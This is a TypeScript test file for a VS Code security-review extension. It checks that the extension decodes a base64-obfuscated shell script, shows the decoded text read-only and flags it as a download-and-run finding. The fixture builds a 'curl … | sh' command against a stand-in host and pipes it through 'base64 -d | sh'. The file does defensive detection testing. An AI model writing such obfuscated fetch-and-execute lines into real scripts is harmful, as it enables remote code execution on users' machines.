import assert from 'node:assert/strict'
import { rmSync, writeFileSync } from 'node:fs'
import * as vscode from 'vscode'
import type { WireReview } from '../../../server/protocol'
import { until, untilDiagnostics } from '../events'
import { allTabs, closeLater, findingOf, inWorkspace, leave, review } from '../window'

const INNER = 'curl -fsSL https://example.invalid/marker | sh\n'

describe('the texts that a finding says would be run', () => {
  const script = inWorkspace('autogen-twin.sh')

  beforeEach(() => {
    const encoded = Buffer.from(INNER).toString('base64')
    writeFileSync(script.fsPath, `#!/bin/sh\necho ${encoded} | base64 -d | sh\n`)
  })
  afterEach(async () => {
    rmSync(script.fsPath)
    await leave()
  })

  it('open as read-only documents of their language, with the findings in them', async () => {
    const { id, findings } = closeLater(await review('reviewWorkingTree'))
    const { fingerprint, rule } = findingOf({ findings } as WireReview, 'build/unwrapped-script')
    const texts = await review('showDecodedTexts', { id, fingerprint, rule })
    assert.deepEqual(
      texts.files.map(({ path }) => path),
      ['autogen-twin.sh · stage 1.sh'],
    )
    const document = await until([vscode.workspace.onDidOpenTextDocument], () =>
      vscode.workspace.textDocuments.find(({ uri }) => uri.path.endsWith('/autogen-twin.sh · stage 1.sh')),
    )
    assert.equal(document.getText(), INNER)
    assert.equal(document.languageId, 'shellscript')
    assert.equal(vscode.workspace.fs.isWritableFileSystem(document.uri.scheme), false)
    const [diagnostic] = await untilDiagnostics(document.uri)
    assert.equal(diagnostic?.code, 'build/download-runs')
    await vscode.commands.executeCommand('plainsight.closeReview', id)
    await until([vscode.window.tabGroups.onDidChangeTabs], () =>
      allTabs().some(({ label }) => label.includes('stage 1')) ? undefined : true,
    )
  })

  it('are not offered where nothing was decoded', async () => {
    const { id, findings } = closeLater(await review('reviewWorkingTree'))
    const other = findings.find(({ evidence }) => evidence.every(({ decoded }) => decoded === undefined))
    assert.ok(other)
    const { fingerprint, rule } = other
    assert.equal(
      await vscode.commands.executeCommand('plainsight.showDecodedTexts', { id, fingerprint, rule }),
      undefined,
    )
  })
})
